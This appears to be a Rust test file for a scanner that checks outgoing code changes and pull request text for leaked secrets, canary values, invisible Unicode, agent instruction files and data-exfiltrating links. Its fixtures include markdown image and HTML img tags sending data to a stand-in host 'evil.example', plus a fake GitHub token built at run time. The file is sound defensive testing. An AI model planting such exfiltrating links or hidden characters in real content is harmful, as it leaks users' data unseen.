//! What leaves, and what stays here.

use proptest::prelude::*;

use super::*;
use crate::policy::subject::AddedLine;

/// A file of lines that are all new.
fn file<'a>(path: &str, text: &'a str, old: Option<&'a str>) -> FileLines<'a> {
    let added = (1..).zip(text.lines()).map(|(number, line)| AddedLine {
        number,
        text: line.as_bytes(),
    });
    FileLines {
        path: path.to_owned(),
        is_binary: false,
        added: added.collect(),
        deleted: 0,
        old: old.map(str::as_bytes),
        new: Some(text.as_bytes()),
    }
}

fn shown(found: &[Found]) -> Vec<String> {
    found
        .iter()
        .map(|one| format!("{} {} {}", one.weight.name(), one.rule.name, one.place))
        .collect()
}

#[track_caller]
fn check(path: &str, text: &str, wanted: &[&str]) {
    let files = [file(path, text, None)];
    let outgoing = Outgoing {
        files: &files,
        ..Outgoing::default()
    };
    assert_eq!(shown(&scan(&outgoing, &BTreeSet::new())), wanted, "{text}");
}

#[track_caller]
fn check_text(kind: TextKind, text: &str, wanted: &[&str]) {
    let texts = [Text {
        name: "text",
        words: text,
        kind,
    }];
    let outgoing = Outgoing {
        texts: &texts,
        ..Outgoing::default()
    };
    assert_eq!(shown(&scan(&outgoing, &BTreeSet::new())), wanted, "{text}");
}

/// Puts a token together at run time, so that no scanner takes this file for a leak.
fn token() -> String {
    format!("ghp_{}", "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zCeFhI")
}

#[test]
fn secrets_stay_here() {
    let line = format!("key = {}\n", token());
    check("src/a.rs", &line, &["block secret src/a.rs:1"]);
    check("tests/a.rs", &line, &["warn secret tests/a.rs:1"]);
    check_text(
        TextKind::Tamed,
        &format!("x\n{line}"),
        &["block secret text:2"],
    );
    check_text(TextKind::Plain, &line, &["block secret text:1"]);
    let files = [file("a", &line, None)];
    let found = scan(
        &Outgoing {
            files: &files,
            ..Outgoing::default()
        },
        &BTreeSet::from(["secret".to_owned()]),
    );
    assert!(
        found[0].weight == Weight::Block,
        "no secret is ever allowed"
    );
    assert!(!found[0].observed.contains("aB3d"), "{}", found[0].observed);
}

#[test]
fn canaries_stay_here() {
    let canaries = Canaries::new(&[3; 32]);
    let secret = canaries.environment().nth(1).unwrap().1.to_owned();
    let texts = [Text {
        name: "pull request body",
        words: &format!("a\nb {secret}"),
        kind: TextKind::Tamed,
    }];
    let lines = secret.chars().map(|c| {
        format!(
            "let x = '{c}';
"
        )
    });
    let spread = lines.collect::<Vec<_>>().concat();
    let files = [file("a.rs", &spread, None), file("b.rs", "fine\n", None)];
    let outgoing = Outgoing {
        files: &files,
        texts: &texts,
        canaries: Some(&canaries),
    };
    let found = scan(&outgoing, &BTreeSet::from(["canary".to_owned()]));
    let canaries: Vec<String> = shown(&found)
        .into_iter()
        .filter(|one| one.contains(" canary "))
        .collect();
    assert_eq!(
        canaries,
        [
            "block canary pull request body:2",
            "block canary the change:1"
        ]
    );
}

#[test]
fn what_is_not_seen_stays_here() {
    check(
        "a.rs",
        "let a = \"\u{202e}\u{2066}x\";\n",
        &["block unseen a.rs:1"],
    );
    check("a.rs", "fine\nx\u{e0041}\n", &["block unseen a.rs:2"]);
    check("a.rs", "x\u{200b}y\u{ad}\n", &["block unseen a.rs:1"]);
    check("a.rs", "x\u{8}\u{1b}[2K\n", &["block unseen a.rs:1"]);
    check(
        "a.md",
        "\u{feff}# Title \u{2764}\u{fe0f} \u{1f468}\u{200d}\u{1f469}\n\u{645}\u{6cc}\u{200c}\u{62e}\n\tx\r\n",
        &[],
    );
    check_text(TextKind::Tamed, "x\u{202e}", &["block unseen text:1"]);
}

#[test]
fn what_phones_home_stays_here() {
    let data = "x".repeat(70);
    check(
        "a.md",
        &format!("![i](https://evil.example/a?d={data})"),
        &["block phones-home a.md:1"],
    );
    check(
        "a.md",
        &format!("[t](https://evil.example/a?d={data})"),
        &["warn phones-home a.md:1"],
    );
    check(
        "a.html",
        &format!("<img src=\"https://evil.example/{data}{data}\">"),
        &["block phones-home a.html:1"],
    );
    check("a.rs", &format!("\"https://evil.example/a?d={data}\""), &[]);
    check(
        "a.md",
        "![badge](https://github.com/o/n/actions/workflows/ci.yml/badge.svg?branch=main)",
        &[],
    );
    check_text(
        TextKind::Tamed,
        &format!("[t](https://evil.example/a?d={data})"),
        &["block phones-home text:1"],
    );
}

#[test]
fn what_agents_obey_stays_here_unless_somebody_asked_for_it() {
    for path in [
        "CLAUDE.md",
        "docs/agents.md",
        ".cursorrules",
        ".Cursor/rules/x.mdc",
        ".github/copilot-instructions.md",
        ".github/instructions/a.md",
        ".claude/settings.json",
        "a/.mcp.json",
        "GEMINI.md",
        ".windsurfrules",
        "a/../AGENTS.md",
    ] {
        check(path, "x\n", &[&format!("block instructions {path}")]);
    }
    check(
        ".github/workflows/ci.yml",
        "x\n",
        &["warn instructions .github/workflows/ci.yml"],
    );
    check("docs/agents-guide.md", "x\n", &[]);
    let files = [file("AGENTS.md", "x\n", None)];
    let found = scan(
        &Outgoing {
            files: &files,
            ..Outgoing::default()
        },
        &BTreeSet::from(["instructions".to_owned()]),
    );
    assert_eq!(shown(&found), ["warn instructions AGENTS.md"]);
    assert_eq!(
        allowable(),
        ["blob", "host", "instructions", "phones-home", "unseen"]
    );
}

#[test]
fn blobs_and_new_hosts_are_said() {
    let blob: String = ('a'..='z').cycle().take(300).collect();
    check(
        "a.rs",
        &format!("const X: &str = \"{blob}\";"),
        &["warn blob a.rs:1"],
    );
    check("a.rs", &"=".repeat(300), &[]);
    check(
        "a.rs",
        "// see https://evil.io/x and https://user@other.io:8080/ and https://evil.io",
        &["warn host a.rs:1", "warn host a.rs:1"],
    );
    check(
        "a.rs",
        "// https://docs.rs/x https://example.com http://localhost:80 https://a.example.org",
        &[],
    );
    let files = [file("a.md", "https://old.io/new", Some("https://OLD.io/"))];
    assert_eq!(
        scan(
            &Outgoing {
                files: &files,
                ..Outgoing::default()
            },
            &BTreeSet::new()
        ),
        []
    );
}

#[test]
fn a_message_that_acts_stays_here() {
    check_text(
        TextKind::Message,
        "Fix it\n\nfixes #1\n",
        &["block calls text:3"],
    );
    check_text(
        TextKind::Message,
        "Fix it [skip ci]",
        &["block calls text:1"],
    );
    check_text(TextKind::Tamed, "fixes #1 @org/team", &[]);
}

proptest! {
    #[test]
    fn any_bytes_are_looked_over(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        let mut one = file("a.md", &text, Some(&text));
        one.new = Some(&bytes);
        let texts = [Text { name: "t", words: &text, kind: TextKind::Message }];
        let canaries = Canaries::new(&[1; 32]);
        let files = [one];
        let _ = scan(&Outgoing { files: &files, texts: &texts, canaries: Some(&canaries) }, &BTreeSet::new());
    }
}
